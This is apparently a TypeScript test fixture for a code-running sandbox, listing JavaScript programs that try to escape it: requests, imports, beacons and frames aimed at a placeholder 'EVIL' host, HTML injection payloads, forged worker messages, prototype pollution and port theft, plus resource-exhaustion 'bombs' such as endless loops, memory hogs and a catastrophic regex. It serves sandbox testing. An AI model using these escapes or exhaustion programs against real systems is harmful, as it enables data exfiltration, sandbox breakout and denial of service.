import { attemptsInLanguages } from './escapes-in-languages.ts'

/**
 * Programs that try to get out of the sandbox, most of them in JavaScript, where most doors are. `EVIL` stands for somebody else's
 * server, `APP` for our own. Each says `begun` first; `attempt` catches, so that all its tries are made.
 */
export interface Escape {
  readonly name: string
  readonly text: string
}

const prelude = `console.log('begun')
const attempt = async (what, act) => {
  try { const value = await act(); console.log(what, 'gave', value === undefined ? 'nothing' : typeof value) }
  catch (error) { console.log(what, 'refused') }
}
`

const attempts: Readonly<Record<string, string>> = {
  fetch: `await attempt('fetch', () => fetch('EVIL/fetch'))
await attempt('own', () => self.fetch('APP/api/library'))
await attempt('no-cors', () => fetch('EVIL/x', { mode: 'no-cors', credentials: 'include', keepalive: true }))`,
  xhr: `await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', 'EVIL/xhr', false); x.send() })`,
  websocket: `await attempt('socket', () => new WebSocket('EVIL'.replace('http', 'ws')))
await attempt('app', () => new WebSocket('APP'.replace('http', 'ws') + '/sync/x/code'))
await attempt('stream', () => new WebSocketStream('EVIL'.replace('http', 'ws')).opened)`,
  'event-source': `await attempt('events', () => new EventSource('EVIL/events'))`,
  'import-scripts': `await attempt('scripts', () => importScripts('EVIL/scripts.js'))`,
  'import-remote': `await attempt('import', () => import('EVIL/module.js'))
await attempt('app', () => import('APP/assets/x.js'))`,
  'import-data': `await attempt('data', () => import('data:text/javascript,export default 1'))
await attempt('data', () => import('data:text/javascript,import "EVIL/nested.js"'))`,
  'import-blob': `const code = 'try { await fetch("EVIL/blob") } catch {} try { await import("EVIL/blob.js") } catch {}'
await attempt('blob', () => import(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))))`,
  beacon: `await attempt('beacon', () => navigator.sendBeacon('EVIL/beacon', 'x'))
await attempt('later', () => fetchLater('EVIL/later'))`,
  'nested-worker': `const nest = () => URL.createObjectURL(new Blob(['fetch("EVIL/nested")']))
await attempt('worker', () => new Worker(nest()))
await attempt('module', () => new Worker(nest(), { type: 'module' }))
await attempt('shared', () => new SharedWorker(nest()))`,
  'recovered-constructors': `const AsyncFunction = (async () => {}).constructor
for (const name of ['fetch', 'Worker', 'WebSocket', 'importScripts', 'indexedDB', 'XMLHttpRequest', 'postMessage', 'close']) {
  await attempt(name, async () => { const v = Function('return ' + name)(); if (v) throw new Error('found ' + name); throw new Error('no') })
  await attempt(name, async () => { if ((0, eval)('typeof ' + name) !== 'undefined') console.log('ESCAPED', name); throw 0 })
  await attempt(name, async () => { if (await AsyncFunction('return globalThis.' + name)()) console.log('ESCAPED', name); throw 0 })
  for (let object = globalThis; object; object = Object.getPrototypeOf(object)) {
    if (Object.getOwnPropertyDescriptor(object, name)?.value) console.log('ESCAPED', name)
  }
}`,
  'recovered-by-delete': `for (const name of ['fetch', 'Worker', 'WebSocket']) {
  delete globalThis[name]
  try { Object.defineProperty(globalThis, name, { value: 1 }) } catch {}
  if (typeof globalThis[name] === 'function') console.log('ESCAPED', name)
}`,
  'string-timers': `setTimeout('fetch("EVIL/timer")', 0)
setInterval('importScripts("EVIL/interval")', 1)
await attempt('done', () => new Promise((resolve) => setTimeout(resolve, 50)))
process.exit(0)`,
  webrtc: `await attempt('rtc', async () => {
  const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] })
  c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())
})
await attempt('transport', () => new WebTransport('EVIL'.replace('http:', 'https:')).ready)`,
  broadcast: `await attempt('broadcast', () => new BroadcastChannel('pairboard').postMessage('x'))`,
  storage: `await attempt('indexedDB', () => indexedDB.open('x'))
await attempt('caches', () => caches.open('x'))
await attempt('opfs', () => navigator.storage.getDirectory())
await attempt('local', () => localStorage.getItem('x'))
await attempt('session', () => sessionStorage.getItem('x'))
await attempt('cookie', () => { if (document.cookie !== undefined) console.log('ESCAPED cookie') })
await attempt('cookieStore', () => cookieStore.getAll())`,
  navigator: `for (const name of ['serviceWorker', 'locks', 'gpu', 'usb', 'serial', 'hid', 'storage', 'mediaCapabilities', 'permissions', 'storageBuckets', 'userAgentData', 'connection', 'sendBeacon']) {
  if (navigator[name] !== undefined) console.log('ESCAPED', name)
}`,
  navigate: `await attempt('href', () => { location.href = 'EVIL/href' })
await attempt('assign', () => location.assign('EVIL/assign'))
await attempt('replace', () => location.replace('EVIL/replace'))
await attempt('navigation', () => navigation.navigate('EVIL/navigation'))
await attempt('open', () => open('EVIL/open'))`,
  windows: `for (const name of ['parent', 'top', 'opener', 'frames', 'window', 'document', 'frameElement', 'clients']) {
  if (typeof globalThis[name] !== 'undefined') console.log('ESCAPED', name)
}`,
  prefetch: `await attempt('link', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'EVIL/prefetch'; document.head.append(l) })
await attempt('image', () => { new Image().src = 'EVIL/image' })
await attempt('frame', () => { document.createElement('iframe').src = 'EVIL/frame' })`,
  'fonts-and-pictures': `await attempt('font', () => new FontFace('x', 'url(EVIL/font)').load())
await attempt('bitmap', () => createImageBitmap('EVIL/bitmap'))
await attempt('filter', () => { const c = new OffscreenCanvas(1, 1).getContext('2d'); c.filter = 'url(EVIL/filter#x)'; c.fillRect(0, 0, 1, 1) })
await attempt('fonts', () => self.fonts.load('1px url(EVIL/font)'))`,
  notifications: `await attempt('notify', () => new Notification('x', { icon: 'EVIL/icon' }))
await attempt('permission', () => Notification.requestPermission())`,
  'forged-messages': `for (const message of [
  { kind: 'event', run: 1, event: { kind: 'output', stream: 'out', text: 'FORGED' } },
  { kind: 'output', stream: 'out', text: 'FORGED' },
  { kind: 'ended', ending: 'finished', ms: 0 },
  'port',
]) await attempt('post', () => postMessage(message))
const { port1, port2 } = new MessageChannel()
await attempt('ports', () => postMessage('port', [port2]))
await attempt('event', () => dispatchEvent(new MessageEvent('message', { data: { kind: 'run' }, ports: [port1] })))`,
  'stolen-port': `globalThis.stolen = []
const post = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (...parts) { stolen.push(this); return post.apply(this, parts) }
Function.prototype.call = Function.prototype.apply = Function.prototype.bind = function () { stolen.push(this) }
EventTarget.prototype.addEventListener = function () { stolen.push(this) }
Object.defineProperty(MessageEvent.prototype, 'ports', { get() { stolen.push(this) } })
console.log('x'); console.error('y')
Reflect.apply(setTimeout, undefined, [() => console.log(stolen.length === 0 ? 'nothing stolen' : 'ESCAPED with a port'), 60])`,
  'polluted-prototypes': `Object.prototype.kind = 'ended'
Object.prototype.ending = 'finished'
Object.prototype.toJSON = () => 'FORGED'
Array.prototype[Symbol.iterator] = function* () { yield 'FORGED' }
Array.prototype.map = Array.prototype.push = String.prototype.slice = () => { throw new Error('polluted') }
Promise.prototype.then = () => {}
console.log('still here')`,
  'polluted-errors': `Error.prepareStackTrace = () => { throw new Error('again') }
Object.defineProperty(Error.prototype, 'stack', { get() { throw new Error('stack') } })
throw { toString() { throw new Error('mine') }, get name() { throw 1 }, get message() { throw 2 } }`,
  'polluted-clock': `performance.now = () => -1e9
Date.now = () => NaN
setTimeout = clearTimeout = setInterval = () => { throw new Error('timer') }
console.log('clock')`,
  closing: `await attempt('close', () => close())
await attempt('self', () => self.close())
console.log('still here')`,
  markup: `console.log('<img src="EVIL/markup" onerror="fetch(\\'EVIL/onerror\\')"><script src="EVIL/script"></script><style>@import "EVIL/style"</style>')
console.log('[x](EVIL/markdown) ![x](EVIL/picture)')
console.error('main.js:1:1 <a href="EVIL/link" ping="EVIL/ping">x</a>')`,
  'source-maps': `console.log('mapped')
//# sourceMappingURL=EVIL/map.json
//# sourceURL=EVIL/source.js`,
  reports: `await attempt('report', () => reportError(new Error('EVIL/report')))`,
  'shared-memory': `if (typeof SharedArrayBuffer !== 'undefined' || crossOriginIsolated) console.log('ESCAPED precise clocks')
await attempt('wait', () => Atomics.wait(new Int32Array(8), 0, 0))`,
  'resource-timing': `for (const entry of performance.getEntries?.() ?? []) if (/room|#|key/.test(entry.name)) console.log('ESCAPED', entry.name)
if (/room|#/.test(location.href) || /room/.test(location.ancestorOrigins?.[0] ?? '')) console.log('ESCAPED location')`,
  devices: `for (const name of ['HID', 'Serial', 'USB', 'GPU', 'Bluetooth']) await attempt(name, () => navigator[name.toLowerCase()].requestDevice({ filters: [] }))`,
  'webassembly-network': `await attempt('compile', () => WebAssembly.compileStreaming(fetch('EVIL/wasm')))
await attempt('response', () => WebAssembly.compileStreaming(new Response(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]), { headers: { 'Content-Type': 'application/wasm' } })))
await attempt('request', () => new Request('EVIL/request').text())`,
  'recovered-from-generators': `const makers = [function* () {}, async function* () {}, async () => {}, () => {}].map((one) => one.constructor)
for (const Maker of makers) {
  for (const name of ['fetch', 'Worker', 'importScripts', 'WebSocket']) {
    await attempt(name, async () => {
      const made = Maker('return typeof ' + name + ' === "function" ? "found" : "none"')()
      const value = made?.next ? (await made.next()).value : await made
      if (value === 'found') console.log('ESCAPED', name)
      throw 0
    })
  }
}`,
  'recovered-through-errors': `await attempt('stack', () => {
  Error.prepareStackTrace = (_error, sites) => sites
  for (const site of new Error('x').stack) {
    const self = site.getThis?.() ?? site.getFunction?.()
    if (self && (self.fetch || self.postMessage)) console.log('ESCAPED through the stack')
    const file = String(site.getFileName?.() ?? '')
    if (file.includes('APP') || file.includes('room')) console.log('ESCAPED file name')
  }
})
Error.prepareStackTrace = undefined
if (/room\\/|#/.test(new Error('y').stack)) console.log('ESCAPED address')`,
  'recovered-from-prototypes': `for (const object of [globalThis, Object.getPrototypeOf(globalThis), Object.getPrototypeOf(Object.getPrototypeOf(globalThis))]) {
  for (const name of ['fetch', 'Worker', 'postMessage', 'importScripts', 'onmessage', 'XMLHttpRequest']) {
    await attempt(name, () => { if (Reflect.get(object, name, globalThis)) console.log('ESCAPED', name); throw 0 })
    await attempt(name, () => { if (object.__lookupGetter__(name)) console.log('ESCAPED getter of', name); throw 0 })
  }
}`,
  'nested-frames': `for (const tag of ['iframe', 'object', 'embed', 'portal', 'fencedframe']) {
  await attempt(tag, () => { const frame = document.createElement(tag); frame.src = frame.data = 'EVIL/' + tag; document.body.append(frame); console.log('ESCAPED', tag) })
}
await attempt('srcdoc', () => { const frame = document.createElement('iframe'); frame.srcdoc = '<img src="EVIL/srcdoc">'; document.body.append(frame) })
await attempt('parser', () => new DOMParser().parseFromString('<img src="EVIL/parser">', 'text/html'))`,
  'style-sheets': `await attempt('sheet', () => new CSSStyleSheet({ baseURL: 'EVIL' }).replaceSync('@import "EVIL/sheet"; * { background: url(EVIL/url) }'))
await attempt('paint', () => CSS.paintWorklet.addModule('EVIL/paint.js'))
await attempt('audio', () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('EVIL/audio.js'))`,
  'forged-compilation': `const port = new MessageChannel()
for (const message of [
  { kind: 'execute', module: {}, program: { entry: 'x', files: [], input: '' } },
  { kind: 'executed', ending: 'finished', ms: 0 },
  { kind: 'ready', lasting: true },
  { kind: 'case-ended', index: 0, outcome: { value: 'FORGED' }, ms: 0 },
]) {
  await attempt('post', () => postMessage(message))
  await attempt('event', () => dispatchEvent(new MessageEvent('message', { data: message, ports: [port.port1] })))
  await attempt('port', () => port.port2.postMessage(message))
}`,
  'leaked-timing': `let finest = Infinity
for (let i = 0, last = performance.now(); i < 200000; i++) { const now = performance.now(); if (now > last) { finest = Math.min(finest, now - last); last = now } }
if (finest < 0.05) console.log('ESCAPED a clock of', finest)
if (performance.getEntriesByType('resource').some(({ name }) => !name.startsWith('blob:'))) console.log('ESCAPED requests')
await attempt('memory', () => { if (performance.measureUserAgentSpecificMemory) return performance.measureUserAgentSpecificMemory(); throw 0 })`,
  'cloned-getters': `await attempt('clone', () => structuredClone({ get kind() { console.log('read'); return 'ended' } }))
Object.defineProperty(Object.prototype, 'module', { get() { return { stolen: this } }, configurable: true })
Object.defineProperty(Object.prototype, 'request', { set() { console.log('ESCAPED with a request') }, configurable: true })
await new Promise((resolve) => setTimeout(resolve, 50))`,
  streams: `await attempt('stream', () => new Response(new Blob(['x'])).body.pipeTo(new WritableStream({ write() { throw 1 } })))
await attempt('object', () => URL.createObjectURL({ href: 'EVIL' }))`,
}

/** They try to take the machine, or the room, down; each runs until it is stopped, or ends by itself. */
const exhaustions: Readonly<Record<string, string>> = {
  'endless-loop': 'for (;;) {}',
  'endless-promises':
    'const again = () => Promise.resolve().then(again); await again(); await new Promise(() => {})',
  'endless-output': "for (let i = 0; ; i++) console.log('line', i)",
  'endless-errors': "for (;;) console.error('x'.repeat(1000))",
  'endless-timers': 'for (let i = 0; i < 20000; i++) setInterval(() => console.log(i), 0)',
  'endless-messages': `const { port1, port2 } = new MessageChannel()
port2.onmessage = () => { for (let i = 0; i < 3; i++) port1.postMessage('x'.repeat(10000)) }
port1.postMessage('x'); setInterval(() => {}, 1000)`,
  'endless-regex': "console.log(/^(a+)+$/.test('a'.repeat(60) + 'b'))",
  'endless-recursion': 'const dive = () => { try { dive() } catch { dive() } }; dive()',
  buffers: 'const kept = []; for (;;) kept.push(new Uint8Array(64 * 1024 * 1024).fill(1))',
  'wasm-memory':
    'const kept = []; for (;;) { const m = new WebAssembly.Memory({ initial: 1 }); try { m.grow(4096) } catch {} kept.push(m) }',
  'long-line': "console.log('x'.repeat(2 ** 28)); for (;;) {}",
  'many-blobs': "for (;;) URL.createObjectURL(new Blob(['x'.repeat(1000000)]))",
}

const program = (name: string, text: string): Escape => ({ name: `${name}.js`, text })

export const escapes: readonly Escape[] = Object.entries(attempts).map(([name, text]) =>
  program(name, prelude + text),
)
/** The same from other languages. */
export const escapesInLanguages: readonly Escape[] = Object.entries(attemptsInLanguages).map(
  ([name, text]) => ({ name, text }),
)
export const bombs: readonly Escape[] = Object.entries(exhaustions).map(([name, text]) =>
  program(name, `console.log('begun')\n${text}\n`),
)
